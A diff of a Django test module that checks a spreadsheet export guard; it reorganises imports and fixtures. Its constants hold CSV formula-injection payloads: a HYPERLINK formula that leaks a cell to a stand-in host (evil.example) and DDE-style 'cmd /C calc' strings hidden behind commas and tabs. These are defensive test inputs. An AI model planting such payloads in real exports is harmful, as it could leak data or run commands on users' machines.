@@ -11,7 +11,6 @@ taken off. The public inventory export, with its import, is tested in
 tests/inventory/test_export_import.py.
 """
 
-from django.core.cache import cache
 from django.urls import reverse
 
 from wagtail.models import Locale
@@ -23,15 +22,17 @@ from home.csv_guard import unguard
 from home.models import StakeholderOrganisation
 from inventory.models import AnnualContribution
 from reporting.assembly import assemble_and_save
-from tests.conftest import publish
-from tests.inventory.conftest import InventoryEntryFactory
-from tests.reporting.factories import (
+from tests.factories import (
     YEAR,
+    InventoryEntryFactory,
     ReportIndexPageFactory,
     ReportPageFactory,
-    aware,
 )
-from tests.spreadsheets import assert_no_formula, body, exported_values, rows
+from tests.helpers.dates import aware
+from tests.helpers.pages import publish
+from tests.helpers.spreadsheets import assert_no_formula, body, exported_values, rows
+
+pytestmark = pytest.mark.usefixtures("empty_cache")
 
 # What the attack on a copy of the site used, and what finding 8 added: a
 # formula behind a ";" (Excel in French, Spanish or Russian), a "," or a tab.
@@ -40,13 +41,6 @@ BEHIND_SEMICOLON = 'Ministry of ICT;=HYPERLINK("http://evil.example/?d="&B1)'
 BEHIND_COMMA = "Ada Lovelace, -2+3+cmd|' /C calc'!A0"
 BEHIND_TAB = 'Partners\t @SUM(1+1)*cmd|" /C calc"!A0'
 ALREADY_QUOTED = "'=not a formula, and kept as typed"
-
-
-@pytest.fixture(autouse=True)
-def fresh_rate_limits():
-    cache.clear()
-    yield
-    cache.clear()
 
 
 def export(client, url, params=None):
